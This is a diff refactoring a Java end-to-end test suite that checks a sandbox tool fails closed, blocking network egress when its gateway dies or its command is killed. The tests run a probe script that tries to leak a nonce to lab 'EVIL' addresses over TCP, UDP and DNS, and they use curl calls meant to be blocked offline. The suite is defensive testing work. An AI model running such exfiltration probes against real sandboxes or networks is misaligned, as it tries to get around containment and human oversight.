@@ -3,12 +3,10 @@ package dev.rustyolo.e2e;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.rustyolo.e2e.attack.Judge;
-import dev.rustyolo.e2e.lab.Addresses;
+import dev.rustyolo.e2e.attack.Loop;
 import dev.rustyolo.e2e.lab.Lab;
-import dev.rustyolo.e2e.lab.Nonce;
 import dev.rustyolo.e2e.process.Docker;
 import dev.rustyolo.e2e.process.Output;
-import dev.rustyolo.e2e.process.Program;
 import dev.rustyolo.e2e.sandbox.Account;
 import dev.rustyolo.e2e.sandbox.Project;
 import dev.rustyolo.e2e.sandbox.Rustyolo;
@@ -29,22 +27,22 @@ final class FailClosedTest {
 
     private final Lab lab;
     private final Account account = Account.unprivileged();
-    private final Nonce nonce = Nonce.fresh();
-    private final Lab.Mark mark;
+    private final Loop loop;
 
     FailClosedTest(Lab lab) {
         this.lab = lab;
-        this.mark = lab.mark();
+        this.loop = Loop.from(lab);
     }
 
     @Test
     void theLoopGetsThroughWithoutASandbox() {
         lab.control()
-                .shell("cd /tmp; timeout 3 " + String.join(" ", loop(nonce)).replace("loop.py", "/app/loop.py"));
+                .shell("cd /tmp; timeout 3 "
+                        + String.join(" ", loop.arguments()).replace("loop.py", "/app/loop.py"));
         lab.settle();
 
-        Set<String> kinds = Set.copyOf(new Judge(Map.of("loop", nonce))
-                .leaks(lab.since(mark)).stream()
+        Set<String> kinds = Set.copyOf(new Judge(Map.of("loop", loop.nonce()))
+                .leaks(lab.since(loop.mark())).stream()
                         .map(leak -> leak.sighting().kind())
                         .toList());
         assertThat(kinds).contains("frame", "tcp", "udp", "question");
@@ -53,9 +51,9 @@ final class FailClosedTest {
     @Test
     void aGatewayThatDiesEndsTheSession() {
         try (Project project = Project.withProbes(account);
-                Session session = Rustyolo.inLab(project, lab).session(command())) {
+                Session session = Rustyolo.inLab(project, lab).session(loop.command("--"))) {
             List<String> addresses = session.addresses();
-            awaitRound(session.program(), 5);
+            loop.awaitRound(session.program(), 5);
 
             Docker.run("kill", session.gateway());
             Output end = session.program().await(PATIENCE);
@@ -63,26 +61,26 @@ final class FailClosedTest {
             assertThat(end.exitCode()).isNotZero();
             assertThat(end.err()).contains("[RustyYOLO]").containsIgnoringCase("gateway");
             assertThat(containersOf(session)).isEmpty();
-            assertNothingGotOut(addresses);
+            loop.assertNothingGotOut(addresses);
         }
     }
 
     @Test
     void aKilledCommandLeavesNoWayOutAndTheNextStartCleansUp() {
         try (Project project = Project.withProbes(account);
-                Session session = Rustyolo.inLab(project, lab).session(command())) {
+                Session session = Rustyolo.inLab(project, lab).session(loop.command("--"))) {
             List<String> addresses = session.addresses();
-            awaitRound(session.program(), 5);
+            loop.awaitRound(session.program(), 5);
 
             session.program().signal("KILL");
             session.program().await(PATIENCE);
             Docker.attempt("wait", session.gateway());
-            assertNothingGotOut(addresses);
+            loop.assertNothingGotOut(addresses);
 
             Output next = Rustyolo.inLab(project, lab).run("--", "true");
             assertThat(next.exitCode()).as(next.text()).isZero();
             assertThat(containersOf(session)).isEmpty();
-            assertNothingGotOut(addresses);
+            loop.assertNothingGotOut(addresses);
         }
     }
 
@@ -108,7 +106,11 @@ final class FailClosedTest {
             Output page = Rustyolo.inLab(project, lab).with("--offline").run(fetch());
             Output service = Rustyolo.inLab(project, lab)
                     .with("--offline")
-                    .run("shell", "-c", "curl -sS -m 5 https://api.anthropic.com/" + nonce.text());
+                    .run(
+                            "shell",
+                            "-c",
+                            "curl -sS -m 5 https://api.anthropic.com/"
+                                    + loop.nonce().text());
 
             assertThat(page.exitCode()).as(page.text()).isNotZero();
             assertThat(service.exitCode()).as(service.text()).isNotZero();
@@ -127,40 +129,22 @@ final class FailClosedTest {
         }
     }
 
-    private String[] command() {
-        List<String> words = new java.util.ArrayList<>(List.of("--"));
-        words.addAll(loop(nonce));
-        return words.toArray(String[]::new);
-    }
-
-    private static List<String> loop(Nonce nonce) {
-        return List.of(
-                "python3",
-                "loop.py",
-                Addresses.v4(Addresses.EVIL),
-                Addresses.v6(Addresses.EVIL),
-                Addresses.v4(Addresses.DNS),
-                nonce.text());
-    }
-
-    private static void awaitRound(Program program, int number) {
-        program.out().await("round " + number, PATIENCE, line -> line.strip().equals("round " + number));
-    }
-
     private String[] fetch() {
-        return new String[] {"--", "curl", "-sS", "-m", "5", "https://allowed.test/" + nonce.text()};
-    }
-
-    private void assertNothingGotOut(List<String> addresses) {
-        lab.settle();
-        assertThat(new Judge(Map.of("loop", nonce)).leaks(lab.since(mark))).isEmpty();
-        assertThat(Judge.strays(lab.since(mark), addresses, Set.of())).isEmpty();
+        return new String[] {
+            "--",
+            "curl",
+            "-sS",
+            "-m",
+            "5",
+            "https://allowed.test/" + loop.nonce().text()
+        };
     }
 
     private void assertTheOriginSawNothing() {
         lab.settle();
-        assertThat(new Judge(Map.of("fetch", nonce)).leaks(lab.since(mark))).isEmpty();
-        assertThat(lab.since(mark))
+        assertThat(new Judge(Map.of("fetch", loop.nonce())).leaks(lab.since(loop.mark())))
+                .isEmpty();
+        assertThat(lab.since(loop.mark()))
                 .noneMatch(seen -> seen.kind().equals("question")
                         && (seen.target().equals("allowed.test")
                                 || seen.target().equals("api.anthropic.com")));
